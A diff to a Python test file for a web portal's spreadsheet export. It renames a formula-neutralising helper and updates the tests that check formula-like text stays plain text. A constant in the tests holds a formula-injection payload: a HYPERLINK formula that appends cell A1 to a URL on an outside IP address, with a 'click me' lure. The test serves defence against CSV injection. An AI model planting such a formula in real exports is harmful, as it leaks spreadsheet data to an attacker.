@@ -11,7 +11,7 @@ from openpyxl import load_workbook
 from wagtail.admin.views.mixins import SpreadsheetExportMixin
 
 from portal.people.roles import Role
-from portal.web.spreadsheets import neutralised
+from portal.web.spreadsheets import neutralise_formula
 from tests.factories import UserFactory, make_case
 
 FORMULA = '=HYPERLINK("http://198.51.100.7/?x="&A1,"点我")'
@@ -35,8 +35,8 @@ FORMULA = '=HYPERLINK("http://198.51.100.7/?x="&A1,"点我")'
 def test_a_text_that_looks_like_a_formula_stays_a_text(
     value: Any, in_csv: Any, in_xlsx: Any
 ) -> None:
-    assert neutralised(value, SpreadsheetExportMixin.FORMAT_CSV) == in_csv
-    assert neutralised(value, SpreadsheetExportMixin.FORMAT_XLSX) == in_xlsx
+    assert neutralise_formula(value, SpreadsheetExportMixin.FORMAT_CSV) == in_csv
+    assert neutralise_formula(value, SpreadsheetExportMixin.FORMAT_XLSX) == in_xlsx
 
 
 def exported(address: str, export_format: str) -> list[str]:
